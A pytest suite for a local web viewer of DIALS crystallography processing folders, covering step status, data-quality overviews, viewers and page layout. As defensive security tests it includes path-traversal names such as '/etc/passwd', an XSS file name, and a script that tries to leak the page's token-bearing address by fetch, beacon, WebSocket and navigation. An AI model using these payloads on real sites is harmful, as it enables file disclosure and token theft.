"""The home page of a processing folder tells what its logs, notes and files tell, and nothing of other folders."""

import contextlib
import json
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import urllib.error
import urllib.request
import zlib

import pytest
from viewer_set import viewed

from browser import beyond_tab, chromium, pale_texts, record_touches, until, untouched
from puredials.errors import FileError
from puredials.io.running import Running
from puredials.text import text_table
from puredials.viewer import HOME_STATIC, STATIC, RunView, ViewerServer


@pytest.fixture
def folder(tmp_path):
    """A run whose third program failed; and files that are no business of the page."""
    run = tmp_path / "run"
    run.mkdir()
    logs = {
        "dials.import": "puredials\nSaving experiments to imported.expt\n",
        "dials.find_spots": "puredials\nSaving strong.refl\nSaving the page to a.html\n",
        "dials.index": "puredials\nSorry: No lattice <b>was</b> found.\n",
    }
    for k, (name, text) in enumerate(logs.items()):
        path = run / f"{name}.log"
        path.write_text(text)
        os.utime(path, (1000 + k, 1000 + k))
    (run / "imported.expt").write_text("{}")
    (run / "strong.refl").write_bytes(b"x" * 20)
    (run / "a.html").write_text("<p id=here>page</p><script>document.title = 'ran'</script>")
    (run / "image_0001.cbf").write_bytes(b"")
    (tmp_path / "secret.json").write_text("secret")
    (run / "link.json").symlink_to(tmp_path / "secret.json")
    (run / "<img src=x onerror=alert(1)>.json").write_text("{}")
    return run


def opener(experiments, reflections):
    assert experiments.is_file()
    assert reflections is None or reflections.is_file()
    return STATIC, viewed()[0]


@pytest.fixture
def served(folder):
    view = RunView(folder, {"image": opener, "reciprocal lattice": opener})
    with ViewerServer(view.routes, HOME_STATIC, actions=view.actions) as server:
        view.attach(server)
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def browser():
    with chromium() as browser:
        yield browser


def get(address, value=None):
    data, headers = None, {}
    if value is not None:
        data, headers = json.dumps(value).encode(), {"Content-Type": "application/json"}
    with urllib.request.urlopen(urllib.request.Request(address, data, headers), timeout=20) as reply:
        body = reply.read()
        return reply.headers, zlib.decompress(body) if reply.headers["Content-Encoding"] == "deflate" else body


def refusal(address):
    """The status of an answer that is an error."""
    with pytest.raises(urllib.error.HTTPError) as error:
        get(address)
    error.value.close()
    return error.value.code


def test_steps_are_told_in_the_order_of_their_logs(folder):
    steps = RunView(folder, {}).state()["steps"]
    assert [(s["program"], s["state"]) for s in steps] == [
        ("dials.import", "done"),
        ("dials.find_spots", "done"),
        ("dials.index", "failed"),
    ]
    assert steps[0]["written"] == ["imported.expt"]
    assert steps[1]["written"] == ["strong.refl", "a.html"]
    assert steps[1]["pages"] == ["a.html"]
    assert steps[2]["sentence"] == "Sorry: No lattice <b>was</b> found."


def test_a_running_program_tells_of_its_progress_and_a_killed_one_of_its_end(folder):
    running = Running("dials.index", folder)
    running.tell("Indexing", 3, 7)
    step = RunView(folder, {}).state()["steps"][-1]
    assert (step["state"], step["sentence"], step["done"], step["total"]) == ("running", "Indexing", 3, 7)
    note = folder / ".dials.index.running"
    gone = subprocess.Popen([sys.executable, "-c", ""])
    gone.wait()
    note.write_text(note.read_text().replace(str(os.getpid()), str(gone.pid)))
    assert RunView(folder, {}).state()["steps"][-1]["state"] == "killed"


@pytest.mark.parametrize(("end", "state"), [("Interrupted: nothing", "interrupted"), ("Terminated: no", "interrupted")])
def test_an_interrupted_program_is_said_to_be(folder, end, state):
    (folder / "dials.index.log").write_text(f"puredials\n\n{end}\n")
    assert RunView(folder, {}).state()["steps"][-1]["state"] == state


def test_only_files_of_known_kinds_within_the_folder_are_listed(folder):
    names = {file["name"] for file in RunView(folder, {}).state()["files"]}
    assert "imported.expt" in names
    assert not names & {"link.json", "image_0001.cbf", "secret.json"}


@pytest.mark.parametrize("name", ["../secret.json", "link.json", "/etc/passwd", "..%2fsecret.json", "image_0001.cbf"])
def test_other_files_are_not_sent(served, name):
    assert refusal(f"{served.address}file?name={name}") == 400


def test_pages_are_shown_within_a_policy_that_asks_nobody_for_anything(served):
    headers, body = get(f"{served.address}page?name=a.html")
    assert b"id=here" in body
    assert headers["Content-Security-Policy"].startswith("sandbox allow-scripts")
    assert "default-src 'none'" in headers["Content-Security-Policy"]
    assert refusal(f"{served.address}page?name=imported.expt") == 400


@pytest.mark.parametrize("viewer", ["image", "reciprocal lattice"])
def test_viewers_open_beneath_the_same_address_and_once_for_the_same_files(served, folder, viewer):
    wish = {"viewer": viewer, "experiments": "imported.expt", "reflections": "strong.refl"}
    paths = [json.loads(get(f"{served.address}open", wish)[1])["path"] for _ in range(2)]
    assert paths[0] == paths[1]
    (found,) = json.loads(get(f"{served.address}{paths[0]}sets.json")[1])
    assert found["images"] == 5
    assert b"Image viewer" in get(f"{served.address}{paths[0]}")[1]
    os.utime(folder / "strong.refl", (5, 5))
    assert json.loads(get(f"{served.address}open", wish)[1])["path"] != paths[0]


@pytest.mark.parametrize("name", ["../secret.expt", "absent.expt", "strong.refl"])
def test_viewers_open_files_of_the_folder_only(folder, name):
    with pytest.raises(FileError):
        RunView(folder, {"image": opener})._open({"viewer": "image", "experiments": name, "reflections": None})


def test_it_serves_a_folder_until_it_is_told_to_end(folder):
    code = "import sys; from puredials.cli.puredials import main; sys.exit(main())"
    words = [sys.executable, "-c", code, "serve", str(folder), "browser=False"]
    program = subprocess.Popen(words, stdout=subprocess.PIPE, text=True)
    address = next(found.group() for line in program.stdout or () if (found := re.search(r"http://\S+", line)))
    assert refusal(f"{address}nothing") == 404
    state = json.loads(get(f"{address}state.json")[1])
    program.send_signal(signal.SIGTERM)
    program.communicate(timeout=20)
    assert program.returncode == 0
    assert state["folder"] == str(folder)


SHELLS = """
 d_max  d_min   #obs  #uniq   mult.  %comp       <I>  <I/sI>    r_mrg   r_meas    r_pim   r_anom   cc1/2    cc_ano
 30.00   3.00   2246   1135    1.98  57.88    1728.2    40.0    0.020    0.026    0.016    0.037   0.998*       -
  3.00   2.00   1925   1166    1.65  63.20     591.8    28.2    0.023    0.030    0.019    0.036   0.900*       -
 30.00   2.00   4171   2301    1.81  60.50    1128.2    34.0    0.021    0.028    0.017    0.036   0.990*   0.441
"""


def test_the_overview_tells_the_latest_numbers_and_what_deserves_a_look(folder):
    (folder / "dials.index.log").unlink()
    (folder / "dials.find_spots.log").write_text("Saving 4000 reflections to strong.refl\n")
    (folder / "dials.scale.log").write_text(f"{SHELLS}\nSaving the scaled reflections to scaled.refl\n")
    (folder / "dials.report.log").write_text("Plots that deserve a look:\n  RMSD: it rises.\n\nSaving x\n")
    found = RunView(folder, {}).state()["overview"]
    numbers = {number["name"]: (number["value"], number["note"]) for number in found["numbers"]}
    assert numbers["Spots"] == ("4,000", "")
    assert numbers["Resolution"] == ("2.00 Å", "")
    assert numbers["CC½"] == ("0.990", "outermost shell 0.900")
    assert found["concerns"] == [
        {"program": "dials.scale", "text": "Only 60 % of the possible reflections were measured."},
        {"program": "dials.report", "text": "RMSD: it rises."},
    ]
    assert found["state"] == "look"
    assert found["sentence"].startswith("Merged data are sound.")
    assert len(found["shells"]["rows"]) == 3


ODD = {
    "shells without CC1/2": "\n".join(" ".join(["", *line.split()[:-2]]) for line in SHELLS.splitlines()),
    "a frame without rows": "+-------+-------+\n| d_max | d_min |\n|-------+-------|\n+-------+-------+\n",
    "a frame without header": "+-------+-------+\n| d_max | d_min |\n+-------+-------+\n",
}


@pytest.mark.parametrize("text", ODD.values(), ids=ODD)
@pytest.mark.parametrize("program", ["dials.scale", "dials.merge", "puredials.process"])
def test_a_log_may_hold_shells_of_any_kind(folder, program, text):
    (folder / "dials.index.log").unlink()
    (folder / f"{program}.log").write_text(f"{text}\nSaving 5 reflections to scaled.refl\n")
    assert RunView(folder, {}).state()["overview"]["state"] in ("done", "look")


def test_a_log_that_vanishes_or_cannot_be_read_is_said_to(folder):
    view = RunView(folder, {})
    files = view._files()
    (folder / "dials.find_spots.log").unlink()
    told = {log.program: log.told for log in view._logs(files)}
    assert told["dials.find_spots"].failed
    assert told["dials.find_spots"].last.startswith("Sorry: dials.find_spots.log cannot be read: ")


def test_the_overview_leaves_out_what_an_earlier_stage_has_superseded(folder):
    """The stages of the one command are as new as it is; a search for spots after it makes all of them old."""
    (folder / "dials.index.log").unlink()
    times = {"dials.scale": 2000, "dials.merge": 2001, "puredials.process": 2002}
    for program, time in times.items():
        path = folder / f"{program}.log"
        path.write_text(f"{SHELLS}\nSaving the scaled reflections to scaled.refl\n")
        os.utime(path, (time, time))
    found = RunView(folder, {}).state()["overview"]
    assert found["shells"] is not None
    assert found["concerns"][0]["program"] == "puredials.process"
    (folder / "dials.find_spots.log").write_text("Saving 4000 reflections to strong.refl\n")
    found = RunView(folder, {}).state()["overview"]
    assert [number["name"] for number in found["numbers"]] == ["Spots"]
    assert found["shells"] is None
    assert found["concerns"] == []
    assert found["sentence"] == "dials.find_spots is done."


def test_the_overview_says_first_what_fails_or_runs(folder):
    view = RunView(folder, {})
    assert view.state()["overview"]["sentence"] == "dials.index has failed: Sorry: No lattice <b>was</b> found."
    running = Running("dials.index", folder)
    running.tell("Indexing", 3, 7)
    assert view.state()["overview"]["sentence"] == "dials.index is running: Indexing 3 of 7"
    running.close()


def test_a_folder_of_thousands_of_files_is_told_in_part_and_searched(folder):
    for k in range(1500):
        (folder / f"SWEEP{k:04}.expt").write_text("{}")
    (folder / "a.html").touch()
    view = RunView(folder, {})
    state = view.state()
    assert state["n_files"] == 1500 + 7
    assert len(state["files"]) < 210
    assert len(state["pairs"]) == 200
    assert len(json.dumps(state)) < 60_000
    assert {step["log"] for step in state["steps"]} < {file["name"] for file in state["files"]}
    assert [file["name"] for file in view._named("sweep0007")] == ["SWEEP0007.expt"]
    assert len(view._named("sweep")) == 200


def test_what_has_not_changed_is_not_sent_again(served, folder):
    first = json.loads(get(f"{served.address}state.json")[1])
    assert json.loads(get(f"{served.address}state.json?mark={first['mark']}")[1]) == {"mark": first["mark"]}
    (folder / "new.json").write_text("{}")
    assert json.loads(get(f"{served.address}state.json?mark={first['mark']}")[1])["n_files"] == first["n_files"] + 1


def test_of_many_viewers_those_used_longest_ago_are_closed(served, folder):
    wish = {"viewer": "image", "experiments": "imported.expt", "reflections": "strong.refl"}
    paths = {}
    for k in (*range(1, 13), 1, 13):
        os.utime(folder / "strong.refl", (k, k))
        paths.setdefault(k, json.loads(get(f"{served.address}open", wish)[1])["path"])
    get(f"{served.address}{paths[1]}sets.json")
    assert refusal(f"{served.address}{paths[2]}sets.json") == 404


def test_of_many_viewers_the_first_are_closed(served, folder):
    wish = {"viewer": "image", "experiments": "imported.expt", "reflections": "strong.refl"}
    paths = []
    for k in range(14):
        os.utime(folder / "strong.refl", (k, k))
        paths.append(json.loads(get(f"{served.address}open", wish)[1])["path"])
    assert [refusal(f"{served.address}{path}sets.json") for path in paths[:2]] == [404, 404]
    get(f"{served.address}{paths[2]}sets.json")


class Tunnel:
    """What ssh -L does: connections to a port of its own are those to another."""

    def __init__(self, target):
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port, self.target = self.listener.getsockname()[1], target
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            try:
                near = self.listener.accept()[0]
            except OSError:
                return
            far = socket.create_connection(("127.0.0.1", self.target))
            for source, sink in ((near, far), (far, near)):
                threading.Thread(target=self.pump, args=(source, sink), daemon=True).start()

    def pump(self, source, sink):
        with source:
            while True:
                try:
                    data = source.recv(65536)
                    sink.sendall(data)
                    if not data:
                        sink.shutdown(socket.SHUT_WR)
                        return
                except OSError:  # the other direction has ended, and closed it
                    return


@pytest.mark.parametrize("name", ["localhost", "127.0.0.1"])
def test_all_of_the_page_works_through_a_tunnel_with_another_port(browser, served, folder, name):
    tunnel = Tunnel(served.server_port)
    assert tunnel.port != served.server_port
    faults, requests = [], []
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    context.on("request", lambda request: requests.append(request.url))
    context.on("requestfailed", lambda request: faults.append(request.url))
    page = context.new_page()
    page.goto(f"http://{name}:{tunnel.port}/{served.token}/")
    page.click("#steps button:has-text('find_spots')")
    page.frame_locator("#page").locator("#here").wait_for()
    with context.expect_page() as opened:
        page.click("#pairs button:has-text('image')")
    viewer = opened.value
    viewer.wait_for_selector("#view")
    until(viewer, "window.viewer && viewer.state.drawn > 0")  # by what the routes beneath told
    page.locator("#like").fill("imported.e")
    page.click("#files button:has-text('imported.expt') >> nth=0")
    tunnel.listener.close()
    assert not faults
    assert all(url.startswith((f"http://{name}:{tunnel.port}/", "data:", "blob:")) for url in requests)


def test_the_page_shows_steps_logs_and_reports_and_opens_viewers(browser, served, folder):
    faults = []
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    page = context.new_page()
    page.on("pageerror", lambda error: faults.append(str(error)))
    page.on("dialog", lambda dialog: faults.append("a name was run as code"))
    page.on("request", lambda request: faults.extend([request.url] * (not request.url.startswith(served.address))))
    record_touches(page)
    page.goto(served.address)
    page.wait_for_selector("#steps button")
    assert page.locator("#steps button").count() == 3
    assert "No lattice <b>was</b> found." in page.text_content("#verdict.failed")
    assert "No lattice <b>was</b> found." in page.text_content("#steps button.failed")
    page.click("#steps button:has-text('index')")
    page.locator("#log:has-text('Sorry')").wait_for()
    page.click("#steps button:has-text('find_spots')")
    assert page.frame_locator("#page").locator("#here").text_content() == "page"
    page.click("#tabs button:has-text('dials.find_spots.log')")
    page.locator("#log:has-text('strong.refl')").wait_for()
    assert page.locator("#page").is_hidden()
    running = Running("dials.index", folder)
    running.tell("Indexing", 3, 7)
    page.wait_for_selector("#steps button.running progress")
    assert "indexing 3 of 7" in page.text_content("#now")
    assert page.title().startswith("▶ 42 % ")
    page.focus("#home")
    page.keyboard.press("Enter")
    page.locator("#verdict.running").wait_for()
    with context.expect_page() as opened:
        page.click("#pairs button:has-text('image')")
    opened.value.wait_for_selector("#view")
    assert "image-1/" in opened.value.url
    page.fill("#like", "strong")
    page.locator("#n_files:has-text('1 found')").wait_for()
    with page.expect_download() as download:
        page.click("#files button")
    assert download.value.suggested_filename == "strong.refl"
    assert untouched(page, "header, aside, #home, #tabs") == []
    page.fill("#like", "")
    assert pale_texts(page) == []
    assert beyond_tab(page) == ([], [])
    running.close()
    assert not faults


HOSTILE = """<script>
  const told = "{there}?" + encodeURIComponent(location.href), image = new Image();
  image.src = told;
  const tries = [
    () => fetch(told, {{ mode: "no-cors" }}), () => fetch("state.json"), () => navigator.sendBeacon(told),
    () => new WebSocket(told.replace("http", "ws")), () => open(told), () => (top.location = told),
    () => document.write(`<link rel="prefetch" href="${{told}}"><iframe src="${{told}}"></iframe>`),
  ];
  for (const act of tries) try {{ act()?.catch?.(() => 0); }} catch {{ }}
  console.log("tried");
  setTimeout(() => (location.href = told), 200);
</script>"""


def test_a_hostile_report_tells_nobody_of_the_address(browser, served, folder):
    """Its script knows the address of the report, with the token in it; nothing that it tries leaves the computer."""
    page, said = browser.new_page(), []
    page.on("console", lambda line: said.append(line.text))
    with socket.create_server(("127.0.0.1", 0)) as listener:
        there = f"http://127.0.0.1:{listener.getsockname()[1]}/"
        (folder / "a.html").write_text(HOSTILE.format(there=there))
        page.goto(served.address)
        page.click("#steps button:has-text('find_spots')")
        until(page, lambda: "tried" in said)
        page.wait_for_timeout(1000)
        assert page.url == served.address
        listener.settimeout(0.1)
        with contextlib.suppress(TimeoutError):
            while True:  # browsers connect ahead of time, and then say nothing
                connection = listener.accept()[0]
                with connection, contextlib.suppress(TimeoutError):
                    connection.settimeout(0.1)
                    assert connection.recv(100) == b""
    page.close()


def test_tables_of_logs_are_shown_as_tables(browser, served, folder):
    rows = [["0", "42596", "103", "99.8%"], ["1", "<i>40283</i>", "90", "99.8%"]]
    text = text_table(["Imageset", "# indexed", "# unindexed", "% indexed"], rows)
    (folder / "dials.index.log").write_text(f"before\n{text}\nafter\n{SHELLS}")
    page = browser.new_page()
    page.goto(served.address)
    page.click("#steps button:has-text('index')", timeout=10_000)
    page.locator("#log table").first.wait_for()
    cells = page.locator("#log table").first.locator("tbody tr").nth(1).locator("td").all_text_contents()
    assert cells == rows[1]
    assert page.locator("#log table").nth(1).locator("tbody tr").count() == 3
    assert page.locator("#log td.bar").count() == 9


def test_what_was_chosen_last_is_shown_whatever_answer_comes_last(browser, served):
    page, held = browser.new_page(), []
    page.goto(served.address)
    page.route("**/log.json*", lambda route: held.append(route))
    page.click("#steps button:has-text('index')")
    until(page, lambda: len(held) == 1)
    page.click("#steps button:has-text('import')")
    until(page, lambda: len(held) == 2)
    held[1].continue_()
    page.locator("#log:has-text('imported.expt')").wait_for()
    with page.expect_response("**/log.json*"):
        held[0].continue_()
    page.wait_for_timeout(100)
    assert "imported.expt" in page.locator("#log").text_content()
    page.close()


def test_an_error_stays_while_the_page_watches_the_folder(browser, served, folder):
    page = browser.new_page()
    page.goto(served.address)
    page.locator("#files button:has-text('strong.refl')").wait_for()
    page.route("**/file?*", lambda route: route.fulfill(status=400, body="It is gone."))
    page.click("#files button:has-text('strong.refl')")
    page.locator("#error:has-text('It is gone.')").wait_for()
    (folder / "new.json").write_text("{}")
    page.locator("#files button:has-text('new.json')").wait_for()
    page.wait_for_timeout(100)
    assert page.locator("#error").text_content() == "It is gone."
    page.close()


def test_a_log_that_could_not_be_fetched_is_asked_for_again(browser, served, folder):
    page = browser.new_page()
    page.goto(served.address)
    page.click("#steps button:has-text('index')")
    page.locator("#log:has-text('Sorry')").wait_for()
    page.route("**/log.json*", lambda route: route.fulfill(status=400, body="Not now."), times=1)
    (folder / "dials.index.log").write_text("puredials\nSaving experiments to indexed.expt\n")
    page.locator("#log:has-text('indexed.expt')").wait_for(timeout=10_000)
    until(page, lambda: page.locator("#error").text_content() == "")
    page.close()


@pytest.mark.parametrize(("width", "height"), [(1280, 800), (3840, 2160)])
def test_the_page_fits_its_window_with_forty_sets(browser, served, folder, width, height):
    for k in range(40):
        name = f"data_set_of_a_rather_long_name_{k}"
        (folder / f"{name}.expt").write_text("{}")
        (folder / f"{name}.refl").write_text("{}")
    (folder / "dials.scale.log").write_text(SHELLS)
    page = browser.new_page(viewport={"width": width, "height": height})
    page.goto(served.address)
    page.wait_for_selector("#numbers dd")
    assert page.locator("#pairs > div").count() == 41
    for part in ("body", "nav", "aside", "#overview", "#numbers"):
        wide, room = page.eval_on_selector(part, "(e) => [e.scrollWidth, e.clientWidth]")
        assert wide <= room, part
    boxes = [box.bounding_box() for box in page.locator("#numbers dd:not(.note)").all()]
    assert all(box["width"] > 0 for box in boxes)
    assert page.eval_on_selector_all("#numbers dd", "(all) => all.every((e) => e.scrollWidth <= e.clientWidth)")
